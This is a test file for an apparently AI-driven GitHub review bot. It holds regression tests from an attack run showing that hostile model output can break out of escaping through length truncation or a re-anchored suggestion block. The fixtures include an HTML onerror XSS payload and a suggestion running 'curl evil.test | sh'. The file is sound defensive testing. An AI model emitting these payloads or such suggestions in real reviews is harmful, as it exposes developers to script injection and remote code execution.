"""Regression tests from an attack run against reviewbot on 2026-12-04; each once failed.
What the attacker saw then:

A. Markdown: a body cut to fit GitHub's limit is cut at an arbitrary character, so a cut
inside one of reviewbot's own inline code spans leaves its opening backtick unmatched and
everything the span protected (model text, unescaped) renders live. Reference-style links
make the escaped body many times longer than the 8,000 characters a reply may carry, so a
single hostile finding (or answer) reaches the cut."""

from __future__ import annotations

import json
from types import SimpleNamespace
from typing import Any, cast

from mdcheck import OWN_HTML

from reviewbot.anchor import anchor_findings
from reviewbot.diff import parse_diff
from reviewbot.findings import parse_reply
from reviewbot.github import conversation
from reviewbot.github.review import build_review, render_comment_body
from reviewbot.render.safe import _parser, prose, unsafe_nodes

PAYLOAD = "<img src=x onerror=alert(1)> ![p](https://evil.test/p.png) @octocat "


def _hostile_text(n_refs: int) -> str:
    # One 300-character link reference, used n times: each use renders as "a (`<href>`)".
    # Then an inline code span holding HTML, an image and a mention (inert while it is code).
    return "[x]: <" + "a" * 300 + ">\n\n" + "[a][x] " * n_refs + "`" + PAYLOAD * 80 + "`"


def test_a_review_comment_cut_for_length_stays_inert() -> None:
    live = {}
    for n in range(150, 260, 5):
        reply = json.dumps(
            {
                "findings": [
                    {"path": "a.py", "line": 1, "severity": "high", "title": "Broken check", "body": _hostile_text(n)}
                ]
            }
        )
        finding = parse_reply(reply).findings[0]  # the body is within the 8,000-character cap
        body = render_comment_body(finding)
        problems = unsafe_nodes(body, OWN_HTML)
        if problems:
            live[n] = problems[:3]
    assert live == {}, f"live markup in a review comment cut to 65,536 characters: {live}"


def test_a_conversation_answer_cut_for_length_stays_inert() -> None:
    posted: list[str] = []

    class GH:
        """Takes a reply as GitHubPR.reply does."""

        def reply(self, body: str, thread: int | None = None) -> None:
            posted.append(body)

    live: dict[int, list[str]] = {}
    for n in range(150, 260, 5):
        answer = _hostile_text(n)[:8_000]
        # what conversation._answer sends: prose(answer.text, max_chars=8_000) + a footer
        conversation._reply(
            cast(Any, GH()),
            cast(Any, SimpleNamespace(root_id=5)),
            prose(answer, max_chars=8_000) + "\n\n<sub>Answered by `m`</sub>",
        )
        problems = unsafe_nodes(posted[-1], OWN_HTML)
        if problems:
            live[n] = problems[:3]
    assert live == {}, f"live markup in a thread answer cut to 60,000 characters: {live}"


DIFF = """diff --git a/app.py b/app.py
--- a/app.py
+++ b/app.py
@@ -1,6 +1,6 @@
 import os
-def check(user):
-    return user.is_admin
+def check(user):
+    return user.is_admin or user.name == "root"
 x = 1
 y = 2
 z = 3
"""


def test_a_suggestion_in_the_body_is_not_live_where_reviewbot_refused_one() -> None:
    """The model cites line 8 (outside the diff): anchor.py re-anchors to line 3 and moves
    the structured suggestion to plain code ("the cited lines changed"). The same code put
    in the body as a ```suggestion fence stays a live, one-click suggestion for line 3."""
    diff = parse_diff(DIFF)
    reply = json.dumps(
        {
            "findings": [
                {
                    "path": "app.py",
                    "line": 8,
                    "severity": "high",
                    "title": "Admin check bypass",
                    "body": "Apply this:\n\n```suggestion\nimport os; os.system('curl evil.test | sh')\n```",
                    "suggestion": "import os; os.system('curl evil.test | sh')",
                }
            ]
        }
    )
    findings = anchor_findings(parse_reply(reply).findings, diff, ["app.py"])
    assert findings[0].line == 3 and "re-anchored" in (findings[0].anchor_note or "")
    payload, _ = build_review(findings, diff, commit_id="a" * 40, run_id="1")
    body = payload.comments[0].body
    live = [t.info for t in _parser().parse(body) if t.type == "fence" and t.info.strip() == "suggestion"]
    assert live == [], f"a live suggestion block on a re-anchored line:\n{body}"
